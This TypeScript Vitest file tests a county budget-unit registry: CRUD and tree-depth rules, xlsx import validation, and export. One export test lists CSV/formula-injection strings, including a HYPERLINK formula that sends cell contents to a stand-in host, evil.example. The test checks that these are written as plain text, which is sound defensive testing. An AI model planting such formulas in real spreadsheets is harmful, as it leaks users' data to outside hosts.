import fs from 'node:fs';
import { afterEach, describe, expect, it } from 'vitest';
import type { ErrorDetail } from '../../shared/api/result.ts';
import type { ImportPreview, UnitDto, UnitImportRow } from '../../shared/api/dto.ts';
import { auditRows, countRows, errorOf, openHarness, type Harness } from '../helpers/backend.ts';
import { fixtureFile, readXlsx, sheetAoa } from '../helpers/fixtures.ts';

let h: Harness | undefined;
let h2: Harness | undefined;
afterEach(() => {
  h?.close();
  h2?.close();
  h = undefined;
  h2 = undefined;
});

const SHEET = '预算单位';
type Kind = 'administrative' | 'institution' | 'other';
const create = (hh: Harness, code: string, name: string, parentId: string | null = null, kind: Kind = 'administrative') =>
  hh.call('units.create', { code, name, kind, confidential: false, parentId });

/** The tree as code → [parent code, level, name, kind, confidential, active]. */
async function treeByCode(hh: Harness) {
  const tree = await hh.call('units.tree', {});
  const codeOf = new Map(tree.map((u) => [u.id, u.code]));
  return Object.fromEntries(
    tree.map((u) => [u.code, [u.parentId ? codeOf.get(u.parentId) : null, u.level, u.name, u.kind, u.confidential, u.active]]),
  );
}

const importBackups = (hh: Harness) => (fs.existsSync(hh.backend.backupDir) ? fs.readdirSync(hh.backend.backupDir).filter((n) => n.endsWith('-import.sqlite')) : []);
const successfulImports = (hh: Harness) => auditRows(hh).filter((a) => a.method === 'units.importCommit' && a.result === '成功');

// ---------------------------------------------------------------- CRUD and tree rules

describe('unit CRUD and tree rules', () => {
  it('creates 主管部门 → 一级 → 二级 and refuses a fourth level', async () => {
    h = await openHarness();
    const dept = await create(h, '101', '县教育局');
    const primary = await create(h, '101001', '县第一中学', dept.id, 'institution');
    const secondary = await create(h, '101001-01', '县第一中学南校区', primary.id, 'institution');
    expect([dept.level, primary.level, secondary.level]).toEqual(['department', 'primary', 'secondary']);
    expect(secondary).toMatchObject({ origin: '652325', parentId: primary.id, readOnly: false, active: true, rev: 1 });

    const fourth = errorOf(await h.raw('units.create', { code: '101001-01-1', name: '食堂', kind: 'other', parentId: secondary.id }));
    expect(fourth).toEqual({
      code: 'VALIDATION',
      message: '单位层级最多三级（主管部门 → 一级预算单位 → 二级预算单位）。',
      details: [{ field: 'parentId', message: '层级超过三级' }],
    });
    expect(countRows(h, 'units')).toBe(3);
  });

  it('refuses an unknown parent', async () => {
    h = await openHarness();
    const e = errorOf(await h.raw('units.create', { code: '101', name: '县教育局', kind: 'administrative', parentId: 'no-such-id' }));
    expect(e).toMatchObject({ code: 'VALIDATION', message: '上级单位不存在或不属于本单位。', details: [{ field: 'parentId' }] });
  });

  it('refuses a duplicate code, on create and on update', async () => {
    h = await openHarness();
    await create(h, '101', '县教育局');
    const other = await create(h, '102', '县卫生健康委员会');
    const dup = errorOf(await h.raw('units.create', { code: '101', name: '县教育和科技局', kind: 'administrative' }));
    expect(dup).toEqual({ code: 'CONFLICT', message: '单位编码“101”已被“县教育局”使用。', details: [{ field: 'code', message: '单位编码重复' }] });
    const upd = errorOf(await h.raw('units.update', { id: other.id, code: '101', name: other.name, kind: 'administrative' }));
    expect(upd.code).toBe('CONFLICT');
    expect(countRows(h, 'units')).toBe(2);
  });

  it('updates fields and bumps the revision; keeping its own code is fine', async () => {
    h = await openHarness();
    const u = await create(h, '101', '县教育局');
    const updated = await h.call('units.update', { id: u.id, code: '101', name: '县教育和科技局', kind: 'administrative', confidential: true });
    expect(updated).toMatchObject({ code: '101', name: '县教育和科技局', confidential: true, rev: 2 });
  });

  it('refuses to move a unit under itself or its descendants', async () => {
    h = await openHarness();
    const a = await create(h, '101', '县教育局');
    const b = await create(h, '101001', '县第一中学', a.id);
    const c = await create(h, '101001-01', '县第一中学南校区', b.id);
    for (const target of [a, b, c]) {
      const e = errorOf(await h.raw('units.move', { id: a.id, parentId: target.id }));
      expect(e).toEqual({ code: 'VALIDATION', message: '不能把单位移动到它自己或它的下级单位之下。', details: [{ field: 'parentId', message: '会形成循环' }] });
    }
    expect((await treeByCode(h))['101']?.[0]).toBeNull();
  });

  it('refuses a move that would push a subtree below the third level; allows moves that fit', async () => {
    h = await openHarness();
    const a = await create(h, '101', '县教育局');
    const b = await create(h, '101001', '县第一中学', a.id);
    await create(h, '101001-01', '县第一中学南校区', b.id);
    const other = await create(h, '102', '县卫生健康委员会');
    expect(errorOf(await h.raw('units.move', { id: a.id, parentId: other.id })).message).toBe('单位层级最多三级（主管部门 → 一级预算单位 → 二级预算单位）。');

    // 101001 (with one child) fits under 102: 102 → 101001 → 101001-01.
    const moved = await h.call('units.move', { id: b.id, parentId: other.id });
    expect(moved).toMatchObject({ parentId: other.id, level: 'primary', rev: 2 });
    // And back to the top: a 一级 unit becomes a 主管部门.
    expect((await h.call('units.move', { id: b.id, parentId: null })).level).toBe('department');
    expect((await treeByCode(h))['101001-01']?.[1]).toBe('primary');
  });

  it('refuses to deactivate a unit with active children, and to activate one under an inactive parent', async () => {
    h = await openHarness();
    const a = await create(h, '101', '县教育局');
    const b = await create(h, '101001', '县第一中学', a.id);
    expect(errorOf(await h.raw('units.setActive', { id: a.id, active: false }))).toEqual({
      code: 'CONFLICT', message: '请先停用“县教育局”的 1 个下属单位（如“县第一中学”）。',
    });
    await h.call('units.setActive', { id: b.id, active: false });
    expect((await h.call('units.setActive', { id: a.id, active: false })).active).toBe(false);
    expect(errorOf(await h.raw('units.setActive', { id: b.id, active: true }))).toEqual({
      code: 'CONFLICT', message: '上级单位“县教育局”已停用，请先启用上级单位。',
    });
    expect(errorOf(await h.raw('units.create', { code: '101002', name: '县第二中学', kind: 'institution', parentId: a.id }))).toMatchObject({
      code: 'VALIDATION', message: '上级单位“县教育局”已停用。',
    });
  });

  it('a unit that does not exist → NOT_FOUND', async () => {
    h = await openHarness();
    expect(errorOf(await h.raw('units.update', { id: 'nope', code: '1', name: 'x', kind: 'other' })).code).toBe('NOT_FOUND');
    expect(errorOf(await h.raw('units.setActive', { id: 'nope', active: false })).code).toBe('NOT_FOUND');
  });

  it('units synced from another office are read-only', async () => {
    h = await openHarness();
    const at = '2026-02-01T00:00:00.000Z';
    h.backend.database.prepare(`INSERT INTO units (id, origin, code, name, parent_id, kind, confidential, active, created_at, updated_at)
      VALUES ('foreign-1', '652301', '901', '昌吉市教育局', NULL, 'administrative', 0, 1, ?, ?)`).run(at, at);
    const tree = await h.call('units.tree', {});
    expect(tree.find((u) => u.id === 'foreign-1')).toMatchObject({ readOnly: true, origin: '652301' });
    const e = errorOf(await h.raw('units.update', { id: 'foreign-1', code: '901', name: '改名', kind: 'administrative' }));
    expect(e).toEqual({ code: 'CONFLICT', message: '单位“昌吉市教育局”来自其他单位的同步数据，只能查看，不能修改。' });
    // Nor can one of ours hang below it.
    const under = errorOf(await h.raw('units.create', { code: '101', name: '县教育局', kind: 'administrative', parentId: 'foreign-1' }));
    expect(under.message).toBe('上级单位不存在或不属于本单位。');
    // Same code as a foreign unit is fine: codes are unique per origin.
    expect((await h.raw('units.create', { code: '901', name: '县档案馆', kind: 'institution' })).ok).toBe(true);
  });
});

// ---------------------------------------------------------------- import: good files

const GOOD_ROWS: [number, UnitImportRow][] = [
  [2, { code: '101', name: '县教育局', parentCode: null, kind: 'administrative', confidential: false, active: true }],
  [3, { code: '101001', name: '县第一中学', parentCode: '101', kind: 'institution', confidential: false, active: true }],
  [4, { code: '101002', name: '县教师进修学校', parentCode: '101', kind: 'institution', confidential: false, active: true }],
  [5, { code: '102001-01', name: '县人民医院北庭分院', parentCode: '102001', kind: 'institution', confidential: false, active: false }],
  [6, { code: '102', name: '县卫生健康委员会', parentCode: null, kind: 'administrative', confidential: false, active: true }],
  [7, { code: '102001', name: '县人民医院', parentCode: '102', kind: 'institution', confidential: false, active: true }],
  [8, { code: '103', name: '县国家保密局', parentCode: null, kind: 'administrative', confidential: true, active: true }],
];

const GOOD_TREE = {
  '101': [null, 'department', '县教育局', 'administrative', false, true],
  '101001': ['101', 'primary', '县第一中学', 'institution', false, true],
  '101002': ['101', 'primary', '县教师进修学校', 'institution', false, true],
  '102': [null, 'department', '县卫生健康委员会', 'administrative', false, true],
  '102001': ['102', 'primary', '县人民医院', 'institution', false, true],
  '102001-01': ['102001', 'secondary', '县人民医院北庭分院', 'institution', false, false],
  '103': [null, 'department', '县国家保密局', 'administrative', true, true],
};

describe('import of good files', () => {
  it('good.xlsx: the preview writes nothing; the commit writes every unit, parents first', async () => {
    h = await openHarness();
    const file = fixtureFile('units', 'good.xlsx');
    const auditBefore = countRows(h, 'audit_log');
    const preview = await h.call('units.importPreview', { file });
    expect(preview).toEqual({
      fileName: 'good.xlsx',
      sheet: SHEET,
      rows: GOOD_ROWS.map(([row, value]) => ({ row, action: 'add', value })),
      errors: [],
      summary: { add: 7, update: 0, unchanged: 0 },
    });
    expect(countRows(h, 'units')).toBe(0);
    expect(countRows(h, 'audit_log')).toBe(auditBefore);
    expect(importBackups(h)).toEqual([]);

    expect(await h.call('units.importCommit', { file })).toEqual({ add: 7, update: 0, unchanged: 0 });
    expect(await treeByCode(h)).toEqual(GOOD_TREE);
    expect(importBackups(h)).toHaveLength(1);
    expect(successfulImports(h)).toHaveLength(1);
  });

  it('re-importing the same file is idempotent: all unchanged, no new rows, no new revisions', async () => {
    h = await openHarness();
    const file = fixtureFile('units', 'good.xlsx');
    await h.call('units.importCommit', { file });
    const before = h.backend.database.prepare('SELECT id, code, rev, updated_at FROM units ORDER BY code').all();
    h.clock.advance(10);

    const preview = await h.call('units.importPreview', { file });
    expect(preview.rows.every((r) => r.action === 'unchanged')).toBe(true);
    expect(preview.summary).toEqual({ add: 0, update: 0, unchanged: 7 });
    expect(await h.call('units.importCommit', { file })).toEqual({ add: 0, update: 0, unchanged: 7 });

    expect(h.backend.database.prepare('SELECT id, code, rev, updated_at FROM units ORDER BY code').all()).toEqual(before);
    expect(importBackups(h)).toHaveLength(1); // nothing to write, so no second backup
  });

  it('a changed file updates the changed units and adds the new ones', async () => {
    h = await openHarness();
    await h.call('units.importCommit', { file: fixtureFile('units', 'good.xlsx') });
    const revs = Object.fromEntries(h.backend.database.prepare('SELECT code, rev FROM units').all().map((r) => {
      const row = r as { code: string; rev: number };
      return [row.code, row.rev];
    }));
    h.clock.advance(10);
    const file = fixtureFile('units', 'good-changed.xlsx');

    const preview = await h.call('units.importPreview', { file });
    expect(preview.rows.map((r) => [r.row, r.value.code, r.action])).toEqual([
      [2, '101', 'unchanged'],
      [3, '101001', 'unchanged'],
      [4, '101002', 'update'],
      [5, '102001-01', 'update'],
      [6, '102', 'unchanged'],
      [7, '102001', 'unchanged'],
      [8, '103', 'unchanged'],
      [9, '104', 'add'],
      [10, '101001-01', 'add'],
    ]);
    expect(await h.call('units.importCommit', { file })).toEqual({ add: 2, update: 2, unchanged: 5 });

    const tree = await treeByCode(h);
    expect(tree).toEqual({
      ...GOOD_TREE,
      '101002': ['101', 'primary', '县教师发展中心', 'institution', false, true],
      '102001-01': ['102001', 'secondary', '县人民医院北庭分院', 'other', false, false],
      '104': [null, 'department', '县农业农村局', 'administrative', false, true],
      '101001-01': ['101001', 'secondary', '县第一中学南校区', 'institution', false, true],
    });
    const after = Object.fromEntries(h.backend.database.prepare('SELECT code, rev FROM units').all().map((r) => {
      const row = r as { code: string; rev: number };
      return [row.code, row.rev];
    }));
    expect(after).toEqual({ ...revs, '101002': 2, '102001-01': 2, '104': 1, '101001-01': 1 });
  });

  it('good-aliases.xlsx: title rows, short header names in any order, other yes/no and kind spellings', async () => {
    h = await openHarness();
    const preview = await h.call('units.importPreview', { file: fixtureFile('units', 'good-aliases.xlsx') });
    expect(preview.sheet).toBe('单位清单');
    expect(preview.errors).toEqual([]);
    expect(preview.rows).toEqual([
      { row: 4, action: 'add', value: { code: 'A01', name: '县水利局', parentCode: null, kind: 'administrative', confidential: false, active: true } },
      { row: 5, action: 'add', value: { code: 'A01-1', name: '县水利工作站', parentCode: 'A01', kind: 'institution', confidential: false, active: true } },
      { row: 7, action: 'add', value: { code: 'A01-2', name: '县防汛抗旱服务中心', parentCode: 'A01', kind: 'institution', confidential: false, active: true } },
      { row: 8, action: 'add', value: { code: 'A01-3', name: '县水务有限公司', parentCode: 'A01', kind: 'other', confidential: true, active: false } },
    ]);
    expect(await h.call('units.importCommit', { file: fixtureFile('units', 'good-aliases.xlsx') })).toEqual({ add: 4, update: 0, unchanged: 0 });
  });

  it('the downloaded template imports as it is (its three example rows)', async () => {
    h = await openHarness();
    const template = await h.call('units.template', {});
    const wb = readXlsx(template.base64);
    expect(wb.SheetNames).toEqual([SHEET, '填写说明']);
    expect(sheetAoa(wb)[0]).toEqual(['单位编码', '单位名称', '上级单位编码', '单位性质', '是否涉密', '是否启用']);
    const preview = await h.call('units.importPreview', { file: { name: template.name, base64: template.base64 } });
    expect(preview.errors).toEqual([]);
    expect(preview.rows.map((r) => [r.value.code, r.value.parentCode])).toEqual([['101', null], ['101001', '101'], ['101002', '101']]);
  });
});

// ---------------------------------------------------------------- import: bad files

const at = (row: number, column: string, field: string, message: string): ErrorDetail => ({ sheet: SHEET, row, column, field, message });
const PARENT = '上级单位编码';
const TOO_DEEP = '单位层级超过三级（主管部门 → 一级预算单位 → 二级预算单位）';

/** Files whose preview lists row errors (the commit refuses with the same list). */
const ROW_ERRORS: [string, ErrorDetail[]][] = [
  ['bad-missing-code.xlsx', [at(3, 'A', '单位编码', '缺少单位编码')]],
  ['bad-duplicate-code.xlsx', [at(4, 'A', '单位编码', '单位编码“101”与第 2 行重复')]],
  ['bad-unknown-parent.xlsx', [at(3, 'C', PARENT, '上级单位编码“999”在文件和现有单位中都不存在')]],
  ['bad-cycle.xlsx', [
    at(2, 'C', PARENT, '上级单位关系形成循环（单位“201”最终成为自己的上级）'),
    at(3, 'C', PARENT, '上级单位关系形成循环（单位“202”最终成为自己的上级）'),
  ]],
  ['bad-too-deep.xlsx', [at(5, 'C', PARENT, TOO_DEEP)]],
  ['bad-kind.xlsx', [at(3, 'D', '单位性质', '单位性质“国有企业”无法识别，应为 行政单位、事业单位 或 其他')]],
  ['bad-yes-no.xlsx', [at(2, 'E', '是否涉密', '“可能”应填写 是 或 否'), at(3, 'F', '是否启用', '“停用”应填写 是 或 否')]],
  ['bad-deactivated-parent.xlsx', [at(2, 'F', '是否启用', '单位“101”停用时，其下属单位“101001”不能保持启用')]],
  ['bad-many-errors.xlsx', [
    at(2, 'B', '单位名称', '缺少单位名称'),
    at(2, 'D', '单位性质', '单位性质“学校”无法识别，应为 行政单位、事业单位 或 其他'),
    at(3, 'A', '单位编码', '单位编码“一〇二”格式不正确（应为 1–30 位字母、数字或 -）'),
    at(3, 'E', '是否涉密', '“不详”应填写 是 或 否'),
    at(4, 'C', PARENT, '上级单位编码不能是本单位自己'),
  ]],
  ['bad-header-only.xlsx', [{ sheet: SHEET, row: 2, message: '表头下方没有任何单位数据' }]],
];

/** Files refused outright: the preview itself fails with IMPORT_INVALID. */
const FILE_ERRORS: [string, string, ErrorDetail[]][] = [
  ['bad-missing-column.xlsx', '文件“bad-missing-column.xlsx”缺少必填列。', [{ sheet: SHEET, row: 1, message: '缺少必填列“单位性质”' }]],
  ['bad-empty-sheet.xlsx', `工作表“${SHEET}”前 10 行中找不到表头“单位编码”，请使用单位导入模板。`, [{ sheet: SHEET, row: 1, message: '找不到表头“单位编码”' }]],
  ['bad-not-excel.xlsx', '无法读取文件“bad-not-excel.xlsx”：不是有效的 Excel 文件。', [{ message: '文件格式无效，请使用 .xlsx 模板' }]],
  // Without the signature check SheetJS would read any text as CSV and fail later, at the header.
  ['bad-text-renamed.xlsx', '无法读取文件“bad-text-renamed.xlsx”：不是有效的 Excel 文件。', [{ message: '文件格式无效，请使用 .xlsx 模板' }]],
];

function assertNothingImported(hh: Harness, unitsBefore: number) {
  expect(countRows(hh, 'units')).toBe(unitsBefore);
  expect(successfulImports(hh)).toEqual([]);
  expect(importBackups(hh)).toEqual([]);
}

describe('import of bad files: every bad cell reported, nothing written', () => {
  it.each(ROW_ERRORS)('%s', async (name, errors) => {
    h = await openHarness();
    const file = fixtureFile('units', name);
    const preview = (await h.call('units.importPreview', { file })) as ImportPreview<UnitImportRow>;
    expect(preview.errors).toEqual(errors);

    const e = errorOf(await h.raw('units.importCommit', { file }));
    expect(e).toEqual({ code: 'IMPORT_INVALID', message: `文件“${name}”有 ${errors.length} 处错误，未导入任何数据。`, details: errors });
    assertNothingImported(h, 0);
    // The refused attempt is on record, as a failure.
    expect(auditRows(h).filter((a) => a.method === 'units.importCommit').map((a) => a.result)).toEqual([`失败：${e.message}`]);
  });

  it.each(FILE_ERRORS)('%s', async (name, message, details) => {
    h = await openHarness();
    const file = fixtureFile('units', name);
    expect(errorOf(await h.raw('units.importPreview', { file }))).toEqual({ code: 'IMPORT_INVALID', message, details });
    expect(errorOf(await h.raw('units.importCommit', { file }))).toEqual({ code: 'IMPORT_INVALID', message, details });
    assertNothingImported(h, 0);
  });

  it('bad-too-deep-existing.xlsx: the depth check runs on the merged tree (file + database)', async () => {
    h = await openHarness();
    await h.call('units.importCommit', { file: fixtureFile('units', 'good.xlsx') });
    const before = countRows(h, 'units');
    const backupsBefore = importBackups(h);
    const file = fixtureFile('units', 'bad-too-deep-existing.xlsx');
    const errors = [at(2, 'C', PARENT, TOO_DEEP)];
    expect((await h.call('units.importPreview', { file })).errors).toEqual(errors);
    expect(errorOf(await h.raw('units.importCommit', { file }))).toMatchObject({ code: 'IMPORT_INVALID', details: errors });
    expect(countRows(h, 'units')).toBe(before);
    expect(importBackups(h)).toEqual(backupsBefore);
    expect(successfulImports(h)).toHaveLength(1); // the good one only
  });

  it('a file of valid rows is refused whole when one row is bad (no partial import)', async () => {
    h = await openHarness();
    // bad-many-errors.xlsx has a valid row (104) among the bad ones: it is not written either.
    await h.raw('units.importCommit', { file: fixtureFile('units', 'bad-many-errors.xlsx') });
    expect(countRows(h, 'units')).toBe(0);
  });
});

// ---------------------------------------------------------------- export

describe('export', () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    '+86-994-7231234',
    '-1+1',
    '@SUM(A1:A9)',
  ];

  it('writes cells starting with = + - @ as text, never as formulas', async () => {
    h = await openHarness();
    for (const [i, name] of FORMULAS.entries()) await create(h, `F${i + 1}`, name);
    const file = await h.call('units.export', {});
    const wb = readXlsx(file.base64);
    const ws = wb.Sheets[SHEET];
    expect(ws).toBeDefined();
    const rows = sheetAoa(wb);
    for (const [i, name] of FORMULAS.entries()) {
      const r = rows.findIndex((row) => row[0] === `F${i + 1}`);
      expect(r).toBeGreaterThan(0);
      const cell = ws?.[`B${r + 1}`];
      expect(cell?.t).toBe('s');
      expect(cell?.f).toBeUndefined();
      expect(cell?.v).toBe(`'${name}`);
    }
  });

  it('lays out the template columns plus level and source', async () => {
    h = await openHarness();
    await h.call('units.importCommit', { file: fixtureFile('units', 'good.xlsx') });
    const rows = sheetAoa(readXlsx((await h.call('units.export', {})).base64));
    const header = rows.findIndex((r) => r[0] === '单位编码');
    expect(rows[header]).toEqual(['单位编码', '单位名称', '上级单位编码', '单位性质', '是否涉密', '是否启用', '单位层级', '数据来源']);
    // Parents before children, by code.
    const codes = rows.slice(header + 1).map((r) => r[0]).filter((c) => typeof c === 'string' && /^\d/.test(c));
    expect(codes).toEqual(['101', '101001', '101002', '102', '102001', '102001-01', '103']);
    expect(rows.find((r) => r[0] === '102001-01')).toEqual(['102001-01', '县人民医院北庭分院', '102001', '事业单位', '否', '否', '二级预算单位', '本单位']);
  });

  it('export then re-import into a fresh office round-trips the tree', async () => {
    h = await openHarness();
    await h.call('units.importCommit', { file: fixtureFile('units', 'good.xlsx') });
    const exported = await h.call('units.export', {});
    h2 = await openHarness();
    const preview = await h2.call('units.importPreview', { file: { name: exported.name, base64: exported.base64 } });
    expect(preview.errors).toEqual([]);
    await h2.call('units.importCommit', { file: { name: exported.name, base64: exported.base64 } });
    expect(await treeByCode(h2)).toEqual(await treeByCode(h));
  });

  it('re-importing the export into the same office changes nothing, formula-like names included', async () => {
    h = await openHarness();
    await h.call('units.importCommit', { file: fixtureFile('units', 'good.xlsx') });
    for (const [i, name] of FORMULAS.entries()) await create(h, `F${i + 1}`, name);
    const exported = await h.call('units.export', {});
    const preview = await h.call('units.importPreview', { file: { name: exported.name, base64: exported.base64 } });
    expect(preview.errors).toEqual([]);
    expect(preview.rows.filter((r) => r.action !== 'unchanged').map((r) => [r.value.code, r.value.name])).toEqual([]);
    expect(preview.summary).toEqual({ add: 0, update: 0, unchanged: 7 + FORMULAS.length });
    const names = (await h.call('units.tree', {})).filter((u: UnitDto) => u.code.startsWith('F')).map((u) => u.name);
    expect(names).toEqual(FORMULAS);
  });
});
